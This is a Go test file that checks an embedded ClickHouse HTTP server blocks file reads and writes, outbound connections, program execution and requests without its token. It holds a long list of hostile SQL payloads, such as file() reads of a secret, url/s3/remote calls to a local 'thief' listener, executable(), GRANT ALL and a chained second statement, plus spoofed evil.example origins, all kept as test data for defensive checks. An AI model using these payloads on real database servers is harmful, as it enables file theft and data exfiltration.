package embedded_test

import (
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"friction/pipeline/embedded"
)

// Statements of somebody who has the token: they reach no file, no other server and no program. Each is sent in every way
// that a statement can come in.
func TestStatementsReachNothingOutside(t *testing.T) {
	server := startClickHouse(t, t.TempDir())
	dir := t.TempDir()
	secret := filepath.Join(dir, "secret")
	if err := os.WriteFile(secret, []byte("hunter2\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	thief := listenForThieves(t)
	must(t, curl(t, server, "CREATE TABLE t (x String) ENGINE = MergeTree ORDER BY x"), "")
	fill := strings.NewReplacer("SECRET", secret, "DIR", dir, "THIEF", thief.addr)
	for _, sql := range attacks {
		sql = fill.Replace(sql)
		for name, r := range map[string]request{
			"body":      {body: strings.NewReader(sql)},
			"parameter": {params: url.Values{"query": {sql}}, body: strings.NewReader("")},
			"both":      {params: url.Values{"query": {sql[:len(sql)/2]}}, body: strings.NewReader(sql[len(sql)/2:])},
			"GET":       {method: http.MethodGet, params: url.Values{"query": {sql}}},
			"HEAD":      {method: http.MethodHead, params: url.Values{"query": {sql}}},
		} {
			got := send(t, server, r)
			if strings.Contains(got.body, "hunter2") {
				t.Errorf("%s: %s reads a file: %.200s", name, sql, got.body)
			}
			if name == "body" && got.status == http.StatusOK && !strings.HasPrefix(sql, "INSERT INTO t VALUES") {
				t.Errorf("%s is answered: %.200s", sql, got.body)
			}
		}
	}
	if got := curl(t, server, "SELECT count() FROM t WHERE x LIKE '%hunter%'"); got.body != "0\n" {
		t.Errorf("a file was read into a table: %s", got.body)
	}
	files, err := os.ReadDir(dir)
	if err != nil || len(files) != 1 {
		t.Errorf("files were written: %v, %v", files, err)
	}
	if n := thief.close(); n > 0 {
		t.Errorf("%d connections to another server", n)
	}
}

var attacks = []string{
	"SELECT 1 INTO OUTFILE 'DIR/out'",
	"SELECT 1 INTO/**/OUTFILE 'DIR/out' TRUNCATE FORMAT TSVRaw",
	"SELECT '\\'' INTO OUTFILE 'DIR/out'",
	"EXPLAIN SELECT 1 INTO OUTFILE 'DIR/out'",
	"SHOW TABLES INTO OUTFILE 'DIR/out'",
	"SELECT $a$'$a$ INTO OUTFILE 'DIR/out' -- '",
	"INSERT INTO t FROM INFILE 'SECRET' FORMAT LineAsString",
	"INSERT INTO t FROM/**/INFILE 'SECRET' FORMAT LineAsString",
	"INSERT INTO t VALUES (file('SECRET'))",
	"INSERT INTO t VALUES ((SELECT x FROM format(Values, 'x String', '(file(\\'SECRET\\'))')))",
	"SELECT file('SECRET')",
	"SELECT `fi\\x6ce`('SECRET')",
	"SELECT arrayMap(file, ['SECRET'])",
	"SELECT * APPLY(file) FROM (SELECT 'SECRET')",
	"SELECT * FROM 'SECRET'",
	"SELECT * FROM `SECRET`",
	"SELECT * FROM default.`SECRET`",
	"SELECT * FROM file('SECRET', 'LineAsString')",
	"DESCRIBE TABLE file('SECRET')",
	"SELECT * FROM fileCluster('default', 'SECRET', 'LineAsString')",
	"SELECT * FROM filesystem('DIR')",
	"SELECT x FROM format(JSONEachRow, 'x String DEFAULT file(\\'SECRET\\')', '{}')",
	"SELECT x FROM format(JSONEachRow, concat('x String DEFAULT fi', 'le(\\'SECRET\\')'), '{}')",
	"SELECT x FROM values('y Int8, x String ALIAS file(\\'SECRET\\')', (1))",
	"SELECT x FROM generateRandom('y Int8, x String ALIAS file(\\'SECRET\\')') LIMIT 1",
	"SELECT * FROM sqlite('SECRET', 't')",
	"SELECT * FROM icebergLocal('DIR')",
	"SELECT 1 FORMAT Template SETTINGS format_template_resultset = 'SECRET'",
	"SELECT 1 SETTINGS additional_result_filter = 'throwIf(1, file(\\'SECRET\\'))'",
	"SELECT 1 FORMAT CapnProto SETTINGS format_schema = 'SECRET:m'",
	"SELECT 1 FORMAT Protobuf SETTINGS output_format_schema = 'DIR/schema'",
	"INSERT INTO FUNCTION file('DIR/new', 'TSV', 'x String') SELECT 'a'",
	"CREATE TABLE f (x String) ENGINE = File(TSV, 'SECRET')",
	"CREATE TABLE f ENGINE = Memory AS SELECT * FROM file('SECRET', 'LineAsString')",
	"CREATE VIEW f AS SELECT * FROM file('SECRET', 'LineAsString')",
	"CREATE TEMPORARY TABLE f ENGINE = File(TSV, 'SECRET')",
	"CREATE DATABASE f ENGINE = Filesystem('DIR')",
	"CREATE TABLE f (x String) ENGINE = MergeTree ORDER BY x SETTINGS disk = disk(type = local, path = 'DIR/')",
	"CREATE TABLE f (x String) ENGINE = MergeTree ORDER BY x SETTINGS disk = disk(type = web, endpoint = 'http://THIEF/')",
	"ATTACH TABLE f FROM 'DIR' (x String) ENGINE = MergeTree ORDER BY x",
	"BACKUP TABLE t TO File('DIR/backup')",
	"RESTORE TABLE t FROM File('DIR/backup')",
	"SELECT * FROM url('http://THIEF/', 'LineAsString', 'x String')",
	"SELECT * FROM `url`('http://THIEF/', 'LineAsString', 'x String')",
	"SELECT * FROM urlCluster('default', 'http://THIEF/', 'LineAsString', 'x String')",
	"SELECT * FROM s3('http://THIEF/bucket/key', 'LineAsString')",
	"SELECT * FROM gcs('http://THIEF/bucket/key', 'LineAsString')",
	"SELECT * FROM remote('THIEF', system.one)",
	"SELECT * FROM cluster('THIEF', system.one)",
	"SELECT * FROM mysql('THIEF', 'd', 't', 'u', 'p')",
	"SELECT * FROM postgresql('THIEF', 'd', 't', 'u', 'p')",
	"SELECT * FROM redis('THIEF', 'k', 'k String')",
	"CREATE TABLE f (x String) ENGINE = URL('http://THIEF/', 'TSV')",
	"CREATE TABLE f (x String) ENGINE = Kafka('THIEF', 't', 'g', 'TSV')",
	"CREATE DATABASE f ENGINE = MySQL('THIEF', 'd', 'u', 'p')",
	"CREATE DICTIONARY f (x String) PRIMARY KEY x SOURCE(HTTP(url 'http://THIEF/' format 'TSV')) LAYOUT(COMPLEX_KEY_HASHED()) LIFETIME(0)",
	"SELECT * FROM executable('cat', TSV, 'x String')",
	"CREATE TABLE f (x String) ENGINE = Executable('cat', TSV)",
	"CREATE FUNCTION f AS (x) -> file(x)",
	"CREATE NAMED COLLECTION f AS url = 'http://THIEF/'",
	"CREATE USER f",
	"GRANT ALL ON *.* TO default",
	"SET dialect = 'prql'",
	"SELECT 1; SELECT file('SECRET')",
}

// thief counts who connects to it.
type thief struct {
	listener net.Listener
	addr     string
	seen     chan int
}

func listenForThieves(t *testing.T) *thief {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	th := &thief{listener: l, addr: l.Addr().String(), seen: make(chan int, 1)}
	go func() {
		n := 0
		for {
			conn, err := l.Accept()
			if err != nil {
				th.seen <- n
				return
			}
			n++
			_ = conn.Close()
		}
	}()
	return th
}

func (th *thief) close() int {
	_ = th.listener.Close()
	return <-th.seen
}

// Settings and parameters in the URL change nothing about it.
func TestSettingsReachNothingOutside(t *testing.T) {
	server := startClickHouse(t, t.TempDir())
	secret := filepath.Join(t.TempDir(), "secret")
	if err := os.WriteFile(secret, []byte("hunter2\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, params := range []url.Values{
		{"query": {"SELECT 1 FORMAT Template"}, "format_template_resultset": {secret}},
		{"query": {"SELECT 1"}, "additional_result_filter": {"throwIf(1, file('" + secret + "'))"}},
		{"query": {"SELECT 1"}, "dialect": {"prql"}},
		{"query": {"SELECT arrayMap({f:Identifier}, ['" + secret + "'])"}, "param_f": {"file"}},
		{"query": {"SELECT * FROM format(Values, 'x String', '(file(''" + secret + "''))')"}, "input_format_values_interpret_expressions": {"1"}},
		{"query": {"SELECT 1"}, "readonly": {"0"}, "allow_experimental_eval_table_function": {"1"}},
	} {
		if got := send(t, server, request{params: params, body: strings.NewReader("")}); got.status == http.StatusOK || strings.Contains(got.body, "hunter2") {
			t.Errorf("%v: %d %.200s", params, got.status, got.body)
		}
	}
}

// What a page in a browser, or another user of this machine, can send without the token.
func TestNobodyAsksWithoutTheToken(t *testing.T) {
	dir := t.TempDir()
	server := startClickHouse(t, dir)
	ask := url.Values{"query": {"SELECT 1"}}
	for name, r := range map[string]request{
		"nothing":          {bare: true, params: ask},
		"ping":             {bare: true, path: "ping"},
		"another password": {bare: true, params: url.Values{"query": {"SELECT 1"}, "user": {"default"}, "password": {"x"}}},
		"an image":         {params: ask, header: http.Header{"Sec-Fetch-Site": {"cross-site"}, "Sec-Fetch-Dest": {"image"}}},
		"another port":     {params: ask, header: http.Header{"Sec-Fetch-Site": {"same-site"}}},
		"a page":           {params: ask, header: http.Header{"Origin": {"https://evil.example"}}},
		"a sandbox":        {params: ask, header: http.Header{"Origin": {"null"}}},
		"a re-bound name":  {params: ask, host: "evil.example"},
	} {
		for _, method := range []string{http.MethodGet, http.MethodPost, http.MethodHead} {
			r.method = method
			if got := send(t, server, r); got.status != http.StatusForbidden || got.header.Get("WWW-Authenticate") != "" {
				t.Errorf("%s by %s: %d %q", name, method, got.status, got.body)
			}
		}
	}
	for _, r := range []request{
		{params: ask},
		{params: ask, header: http.Header{"Sec-Fetch-Site": {"none"}}}, // an address that somebody typed
		{bare: true, params: url.Values{"query": {"SELECT 1"}, "password": {token(t, server)}}},
	} {
		r.method = http.MethodGet
		must(t, send(t, server, r), "1\n")
	}
	if got := send(t, server, request{method: http.MethodGet, params: url.Values{"query": {"CREATE TABLE w (x Int8) ENGINE = Memory"}}}); got.status == http.StatusOK {
		t.Error("a GET writes")
	}
	for path, mode := range map[string]os.FileMode{dir: 0o700, filepath.Join(dir, "token"): 0o600} {
		info, err := os.Stat(path)
		if err != nil || info.Mode().Perm() != mode {
			t.Errorf("%s: %v, %v", path, info.Mode(), err)
		}
	}
}

// Beyond this machine there must be a password, and the token is none.
func TestBeyondThisMachine(t *testing.T) {
	dir := t.TempDir()
	for env, want := range map[string]string{"": "needs a password", "short": "can be guessed"} {
		_, err := embedded.StartClickHouse(t.Context(), embedded.Options{Dir: dir, Addr: "0.0.0.0:0", Env: []string{embedded.PasswordEnv + "=" + env}})
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("password %q: %v", env, err)
		}
	}
	t.Setenv(embedded.PasswordEnv, "correct horse battery")
	library(t)
	server, err := embedded.StartClickHouse(t.Context(), embedded.Options{Dir: dir, Addr: "0.0.0.0:0", Output: os.Stderr})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { stop(t, server) })
	must(t, send(t, server, request{method: http.MethodGet, params: url.Values{"query": {"SELECT 1"}}}), "1\n")
	if got := send(t, server, request{bare: true, body: strings.NewReader("SELECT 1")}); got.status != http.StatusForbidden {
		t.Errorf("without the password: %d", got.status)
	}
}
